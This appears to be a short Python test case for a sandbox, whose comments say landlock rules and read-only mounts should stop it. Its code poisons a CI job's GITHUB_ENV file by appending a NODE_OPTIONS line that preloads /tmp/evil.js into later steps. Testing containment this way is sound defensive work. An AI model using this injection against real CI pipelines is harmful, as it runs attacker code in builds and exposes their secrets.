# goal: append a variable to the file that GITHUB_ENV names, which the next step of the job believes
# success: changes GITHUB_ENV
# held_by: landlock_files + read_only_mounts
import json

path = json.load(open("target.json"))["commands"]["GITHUB_ENV"]
with open(path, "a") as file:
    file.write("NODE_OPTIONS=--require /tmp/evil.js\n")
